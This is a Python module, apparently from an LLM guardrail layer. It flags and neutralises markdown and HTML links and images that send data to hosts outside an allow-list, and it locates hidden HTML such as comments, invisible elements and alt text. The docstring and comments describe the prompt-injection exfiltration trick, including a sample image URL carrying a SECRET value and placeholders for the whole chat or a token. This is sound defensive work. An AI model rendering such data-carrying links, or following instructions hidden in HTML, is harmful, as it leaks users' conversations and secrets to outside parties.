"""Links and images that leak data, and HTML the reader never sees.

A markdown image is fetched as soon as the client renders it, so ``![](https://host/p?d=SECRET)``
sends whatever the model filled in to ``host`` without a click. Links and images that carry data
to a host the operator did not allow are flagged, and ``neutralise`` turns them into inert text.
Hidden HTML (comments, invisible elements, alt text) is where instructions for the model hide.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterator
from dataclasses import dataclass
from urllib.parse import urlsplit

import re2

from middleware.guardrails.detectors.injection_anchors import char_spans

# The URL may hold placeholders with spaces for the model to fill: ?conv={the whole chat}, ?t=<token>.
_MD_LINK = re.compile(
    r"\]\(\s*<?(https?://(?:[^\s()<>\[\]{]|\{[^{}()\n]{0,80}\}|<[^<>()\n]{0,80}>){1,2048}+)>?"
    r"(?:\s+\"[^\"\n]{0,200}\")?\s*\)"
)
_HTML_IMG = re.compile(r"<img\b[^>]{0,500}?\bsrc\s*=\s*[\"']?(https?://[^\"'\s>]{1,2048})[^>]{0,500}>", re.I)
_HTML_A = re.compile(
    r"<a\b[^>]{0,500}?\bhref\s*=\s*[\"']?(https?://[^\"'\s>]{1,2048})[^>]{0,500}>(.{0,300}?)</a\s*>",
    re.I | re.S,
)
# Values an instruction asks the model to fill in: USER_EMAIL, {secret}, <token>, $HISTORY, [DATA].
_PLACEHOLDER = re.compile(
    r"[A-Z][A-Z0-9]*_[A-Z0-9_]+|\{[^}]{1,40}\}|%7B|<[^>]{1,40}>|\$\{?[A-Za-z_]+|\[[A-Z_]{2,}\]"
)
_LONG_VALUE = re.compile(r"[A-Za-z0-9+/_=%-]{24,}")
_LONG_SEGMENT_VALUE = re.compile(r"[A-Za-z0-9+_=%-]{24,}")  # within one path segment: a long path is no value
_LONG_SEGMENT = 32
_ALT_TEXT = re.compile(r"(?<![\w-])(?:alt|title|aria-label)\s*=\s*\"([^\"]{16,1000})\"", re.I)
_ALT_NAME = re2.compile(r"(?i)(?:alt|title|aria-label)[\s\v\x1c-\x1f\x85\pZ]*=")
_ALT_VALUE = re.compile(r"\s*\"([^\"]{16,1000})\"")
_HIDING_TAG = re.compile(
    r"<([a-z][a-z0-9]*)\b[^>]{0,400}?(?:style\s*=\s*[\"'][^\"'>]{0,300}?(?:display\s*:\s*none|"
    r"visibility\s*:\s*hidden|font-size\s*:\s*0(?:px|pt|em|rem|%)?\s*[;\"']|opacity\s*:\s*0(?:\.0+)?\s*"
    r"[;\"']|(?:left|top|right|text-indent|margin-left)\s*:\s*-\d{3,}|(?:width|height|max-height)\s*:\s*"
    r"[01](?:px)?\s*[;\"']|color\s*:\s*(?:white|#fff(?:fff)?|transparent)|clip\s*:\s*rect\(0)|"
    r"\bhidden\b|aria-hidden\s*=\s*[\"']?true)[^>]{0,400}>",
    re.I,
)
_MAX_HIDDEN = 5000


@dataclass(frozen=True, slots=True)
class Link:
    """One markdown or HTML link/image: the whole element, its visible text and its URL."""

    start: int
    end: int
    text: str
    url: str
    image: bool


def iter_links(text: str) -> Iterator[Link]:
    """Markdown ``[text](url)`` / ``![alt](url)`` and HTML ``<a>`` / ``<img>`` with an http(s) URL."""
    if "](" in text:
        for match in _MD_LINK.finditer(text):
            opening = text.rfind("[", max(0, match.start() - 300), match.start())
            if opening < 0:
                continue
            image = opening > 0 and text[opening - 1] == "!"
            start = opening - 1 if image else opening
            yield Link(start, match.end(), text[opening + 1 : match.start()], match.group(1), image)
    if "<" in text:
        for match in _HTML_IMG.finditer(text):
            alt = _ALT_TEXT.search(match.group())
            yield Link(match.start(), match.end(), alt.group(1) if alt else "", match.group(1), True)
        for match in _HTML_A.finditer(text):
            yield Link(match.start(), match.end(), match.group(2), match.group(1), False)


def host_of(url: str) -> str:
    """The URL's host, lowercased ("" when it cannot be parsed)."""
    try:
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""


def host_allowed(host: str, allowed_hosts: Collection[str]) -> bool:
    """``allowed_hosts`` holds exact hosts or ``*.suffix`` (which also allows the bare suffix)."""
    for allowed in allowed_hosts:
        pattern = allowed.lower()
        if pattern.startswith("*."):
            suffix = pattern[2:]
            if host == suffix or host.endswith("." + suffix):
                return True
        elif host == pattern:
            return True
    return False


def carries_data(url: str) -> bool:
    """A query string, or a path segment long enough to smuggle a value."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return True
    if parts.query:
        return True
    return any(len(segment) >= _LONG_SEGMENT for segment in parts.path.split("/"))


def exfil_weight(link: Link) -> float:
    """How strongly one link looks like a data leak: placeholders to fill beat long opaque values."""
    _, _, tail = link.url.partition("//")
    _, _, after_host = tail.partition("/")
    bonus = 1.0 if link.image else 0.0
    if _PLACEHOLDER.search(after_host):  # a value to fill in, in the query or in a short path segment
        return 2.0 + bonus
    if not carries_data(link.url):
        return 0.0
    path, _, query = after_host.partition("?")
    if _LONG_VALUE.search(query) or _LONG_SEGMENT_VALUE.search(path):
        return 1.0 + bonus
    return 0.5


def neutralise_links(text: str, allowed_hosts: Collection[str]) -> str:
    """Replace each link/image sending data to a host not allowed with its text and a short notice."""
    pieces: list[str] = []
    last = 0
    for link in sorted(iter_links(text), key=lambda found: found.start):
        if link.start < last:
            continue
        host = host_of(link.url)
        if host_allowed(host, allowed_hosts) or not carries_data(link.url):
            continue
        label = link.text.strip()
        notice = f"[link removed: data to {host or 'unknown host'}]"
        pieces.append(text[last : link.start])
        pieces.append(f"{label} {notice}" if label else notice)
        last = link.end
    if not pieces:
        return text
    pieces.append(text[last:])
    return "".join(pieces)


def hidden_regions(text: str) -> list[tuple[int, int]]:
    """Spans a human never sees rendered: HTML comments, hidden elements, alt/title text."""
    if "<" not in text:
        return []
    regions: list[tuple[int, int]] = []
    start = text.find("<!--")
    while start >= 0:
        end = text.find("-->", start + 4, start + _MAX_HIDDEN)
        end = start + _MAX_HIDDEN if end < 0 else end + 3
        regions.append((start, min(end, len(text))))
        start = text.find("<!--", end)
    for match in _HIDING_TAG.finditer(text):
        close = text.find(f"</{match.group(1)}", match.end(), match.end() + _MAX_HIDDEN)
        regions.append((match.start(), close if close >= 0 else min(len(text), match.end() + _MAX_HIDDEN)))
    regions.extend(_alt_texts(text))
    return regions


def _alt_texts(text: str) -> Iterator[tuple[int, int]]:
    """Spans of alt/title/aria-label values: RE2 finds the attribute names, ``re`` reads each value."""
    last_end = 0
    for start, end in char_spans(_ALT_NAME, text):
        before = text[start - 1] if start > 0 else " "
        if start < last_end or before.isalnum() or before in "_-":
            continue  # inside the value just read, or "data-alt=" / "subtitle=": another attribute
        value = _ALT_VALUE.match(text, end)
        if value is not None:
            last_end = value.end()
            yield value.span(1)
